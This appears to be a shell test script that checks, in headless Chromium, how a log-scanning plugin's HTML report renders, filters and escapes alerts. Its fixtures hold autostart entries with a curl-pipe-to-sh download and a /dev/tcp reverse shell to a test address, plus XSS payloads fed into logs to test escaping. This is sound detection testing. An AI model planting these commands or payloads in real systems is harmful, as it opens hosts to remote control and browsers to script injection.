#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# run.sh PLUGIN [PICTURES]: what a browser makes of `scan --report`. Chromium opens pages with alerts, filtered by their
# address, from hostile logs, with very many alerts, and without JavaScript. PICTURES is a directory for screenshots.
set -eu
plugin=$1
pictures=${2:-}
here=$(cd "$(dirname "$0")" && pwd)
rules=$here/../../conf/rules
. "$here/records.sh"

for tool in chromium ausearch; do
  command -v "$tool" >/dev/null && continue
  echo "cannot run: $tool is not installed"
  [ "${CI:-}" = true ] && exit 1
  exit 77
done
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
failures=0
fail() {
  echo "FAILED: $*"
  failures=$((failures + 1))
}

# is TEXT GOT WANTED
is() { [ "$2" = "$3" ] || fail "$1: '$2', not '$3'"; }

# browse PAGE[#FRAGMENT] OPTION...: the console's messages are in $work/console; a wrong hash would be one.
browse() {
  page=$1
  shift
  sandbox=
  [ "$(id -u)" != 0 ] || sandbox=--no-sandbox
  # shellcheck disable=SC2086 # nothing, or an option
  HOME=$work chromium --headless $sandbox --disable-gpu --hide-scrollbars --no-first-run --disable-dev-shm-usage \
    --user-data-dir="$work/profile" --enable-logging=stderr "$@" "file://$work/$page" 2>"$work/log" ||
    fail "chromium $page: $?"
  grep -F ':CONSOLE' "$work/log" >"$work/console" || true
  [ ! -s "$work/console" ] || { fail "$page: the console is not silent"; cat "$work/console"; }
}

# open_page NAME[#FRAGMENT] OPTION...: its elements as they are then, in $work/dom.
open_page() {
  address=$1
  shift
  browse "$address" --dump-dom "$@" >"$work/dom"
}

# count PATTERN: elements, or parts of text, in the page.
count() { grep -oE "$1" "$work/dom" | wc -l | tr -d ' '; }
alerts() { count '<details class="alert'; }
shown() { sed -n 's/.*<output id="shown">\([^<]*\)<.*/\1/p' "$work/dom"; }
visible() { grep -oE '<details class="alert[^>]*>' "$work/dom" | grep -cv 'hidden=""' || true; }

scan() {
  name=$1
  shift
  "$plugin" scan --format json --utc --report "$work/$name.html" "$@" >"$work/$name.json" 2>"$work/$name.err" ||
    { fail "scan of $name"; cat "$work/$name.err"; }
}

# The homes of the story's users, with the entries that it starts.
make_root() {
  alice=$work/root/home/alice/.config/autostart bob=$work/root/home/bob/.config/autostart
  mkdir -p "$work/root/etc" "$alice" "$bob"
  printf '%s\n' alice:x:1000:1000::/home/alice:/bin/sh bob:x:1001:1001::/home/bob:/bin/sh \
    kiosk:x:1005:1005::/home/kiosk:/bin/sh >"$work/root/etc/passwd"
  printf '[Desktop Entry]\nName=Updater\nExec=bash -c "curl -fsS http://198.18.7.20/u | sh"\n' >"$alice/updater.desktop"
  printf '[Desktop Entry]\nName=GVfs helper\nExec=bash -c "exec 3<>/dev/tcp/198.18.7.20/4444; sh <&3 >&3 2>&3"\n' \
    >"$alice/gvfs-helper.desktop"
  printf '[Desktop Entry]\nName=Sync\nExec=python3 /home/bob/.local/share/sync.py --quiet\n' >"$bob/sync.desktop"
  [ "$(id -u)" != 0 ] || chown -R 1000:1000 "$work/root/home/alice"
  [ "$(id -u)" != 0 ] || chown -R 1001:1001 "$work/root/home/bob"
  touch -d 2026-11-25T07:58:12Z "$alice/updater.desktop" "$bob/sync.desktop"
  touch -d 2026-11-25T15:55:00Z "$alice/gvfs-helper.desktop"
}

story_page() {
  make_root
  story >"$work/audit.log"
  set -- "$rules"/*.toml
  for rule; do
    shift
    case $rule in *_any.toml) ;; *) set -- "$@" --rules "$rule" ;; esac
  done
  (cd "$work" && scan story --root "$work/root" "$@" audit.log)
  open_page story.html
  is "alerts in the page" "$(alerts)" "$(wc -l <"$work/story.json" | tr -d ' ')"
  is "alerts in the page" "$(alerts)" 9
  is "all are shown" "$(shown)" "9 of 9 shown"
  is "they are unfolded" "$(grep -oE '<details class="alert[^>]*>' "$work/dom" | grep -c 'open=""')" 9
  is "trees" "$(count '<ul class="tree">')" 9
  is "parents" "$(count '<li class="parent">')" 9
  is "autostart entries" "$(count '<li class="entry">')" 5
  is "hosts in the timeline" "$(count '<a class="host"')" 3
  is "marks in the timeline" "$(count '<a href="#a-[0-9a-f]*"><rect')" 6
  is "form" "$(count '<form id="filter" role="search">')" 1
}

filters() {
  while read -r fragment wanted; do
    open_page "story.html#$fragment"
    is "#$fragment" "$(shown)" "$wanted of 9 shown"
    is "#$fragment in the page" "$(visible)" "$wanted"
  done <<'EOF'
q=CURL%20198.18.7.20 1
q=curl%20python 0
q=%2Fdev%2Ftcp 3
host=desk12 1
host=desk7 5
host=nowhere 0
severity=medium&host=kiosk%2D3 3
rule=dd52d45a%2D4602%2D4195%2D9018%2Debe0f219c273 1
EOF
}

# Each event that the page (as it was opened last) names is found by the command that it gives.
commands() {
  sed 's|<p class="search"><code>|\n&|g; s|</code>|&\n|g' "$work/dom" | grep '^<p class="search">' |
    sed 's/<[^>]*>//g' | sort -u >"$work/commands"
  is "commands" "$(wc -l <"$work/commands" | tr -d ' ')" 13
  while read -r command; do
    serial=${command#*-a }
    serial=${serial%% *}
    found=$(cd "$work" && sh -c "$command" 2>/dev/null </dev/null | grep -oE 'audit\([0-9.]+:[0-9]+\)' | sort -u)
    case $found in
      *:"$serial)") [ "$(echo "$found" | wc -l)" = 1 ] || fail "$command: finds more than one event" ;;
      *) fail "$command: finds '$found'" ;;
    esac
  done <"$work/commands"
}

hostile() {
  hostile_log >"$work/hostile.log"
  scan hostile --rules "$rules/xdg_autostart_network.toml" "$work/hostile.log"
  open_page hostile.html
  is "hostile alerts" "$(alerts)" 6
  is "hostile alerts that are shown" "$(shown)" "6 of 6 shown"
  is "title" "$(sed -n 's|.*<title>\([^<]*\)</title>.*|\1|p' "$work/dom" | head -n 1)" "6 alerts on 1 host - audisp-eql"
  is "scripts" "$(count '<script')" 1
  is "styles" "$(count '<style')" 1
  is "pictures and frames" "$(count '<(img|iframe|object|embed|base|link|svg onload)')" 0
  is "handlers" "$(count '<[a-z]+ [^>]* on[a-z]+=')" 0
  is "script as text" "$(count '&lt;script&gt;document.title=')" 1
  is "escaped direction" "$(count '\\xE2\\x80\\xAE')" 1
  if LC_ALL=C grep -qP '\xE2\x80[\x8E\x8F\xA8-\xAE]|[\x01-\x08\x0B-\x1F]' "$work/dom"; then
    fail "raw direction or control"
  fi
  is "cut" "$(count 'cut: 1,000,000 bytes in all')" 1
  [ "$(wc -c <"$work/hostile.html")" -lt 200000 ] || fail "the page is large"
  # What a log has in it can be searched for and is still text.
  open_page 'hostile.html#q=%3Cscript%3E'
  is "search for script" "$(shown)" "1 of 6 shown"
  is "scripts after the search" "$(count '<script')" 1
  open_page 'hostile.html#q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'
  is "pictures from the address" "$(count '<img')" 0
}

hostile_log() {
  node=h user=1000 home=/h
  exec_call 0 500 1 /usr/bin/xfce4-session xfce4-session
  alert=0
  for argument in '<script>document.title="x"</script>' '</style></script><img src=x onerror=document.title=1>' \
    "$(printf '\342\200\256gpj.exe \377\033[31m\001')" '"><svg onload=document.title=2>' '<!--'; do
    alert=$((alert + 1))
    exec_call "$((alert * 5000))" "$((500 + alert))" 500 /usr/bin/app app "$argument"
    connect_call "$((alert * 5000 + 100))" "$((500 + alert))" 500 /usr/bin/app -111 C6120714 "$((4000 + alert))"
  done
  exec_long 40000 600 500 /usr/bin/app
  connect_call 40100 600 500 /usr/bin/app -111 C6120714 4100
}

# More alerts than are drawn; 60 hosts, one of them with nearly all.
many() {
  awk 'BEGIN {
    for (i = 0; i < 20000; ++i) {
      host = i % 100 == 0 ? i / 100 % 60 : 0
      printf "{\"@timestamp\":%d000,\"event\":{\"category\":\"process\",\"id\":\"%d\"},", 1795593600 + i * 60, i
      printf "\"host\":{\"id\":\"host%d\"},\"process\":{\"name\":\"p\"}}\n", host
    }
  }' >"$work/many.ndjson"
  scan many --input ndjson --query 'process where true' "$work/many.ndjson"
  open_page many.html
  is "alerts of 20,000" "$(alerts)" 1000
  is "what is not drawn is said" "$(count 'Of 20,000 alerts this page draws 1,000')" 1
  # Of 2^23 ms each; half as long they would be more than 240.
  is "slices of the busy host" "$(grep -oE 'alerts on host0".*' "$work/dom" | grep -oE '<rect' | wc -l | tr -d ' ')" 144
  is "lanes" "$(count '<div class="lane">')" 41
  is "hosts with a drawn alert" "$(grep -oE 'data-host="[^"]*"' "$work/dom" | sort -u | wc -l | tr -d ' ')" 60
}

# The browser shows no elements of a page whose scripts are switched off; one that lost its script is the same.
without_script() {
  sed '/^<script>/,/<\/script>/d' "$work/story.html" >"$work/still.html"
  open_page still.html
  is "scripts" "$(count '<script')" 0
  is "alerts without JavaScript" "$(alerts)" 9
  is "form without JavaScript" "$(count '<form id="filter" role="search" hidden="">')" 1
}

# Chromium has no window as narrow as a phone; a frame has any width.
pictures() {
  mkdir -p "$pictures"
  browse story.html --window-size=1200,1340 --screenshot="$pictures/light.png"
  browse story.html --window-size=1200,1340 --blink-settings=preferredColorScheme=0 --screenshot="$pictures/dark.png"
  echo '<!doctype html><body style="margin:0">' \
    '<iframe src="story.html" style="border:0;width:390px;height:2400px"></iframe>' >"$work/phone.html"
  browse phone.html --window-size=500,2400 --screenshot="$pictures/phone.png"
  browse story.html --no-pdf-header-footer --print-to-pdf="$pictures/print.pdf"
  browse hostile.html --window-size=1200,3000 --screenshot="$pictures/hostile.png"
  browse many.html --window-size=1200,2400 --screenshot="$pictures/many.png"
}

story_page
commands
filters
hostile
many
without_script
[ -z "$pictures" ] || pictures
[ "$failures" = 0 ] || exit 1
echo "report: Chromium shows it as it is meant"
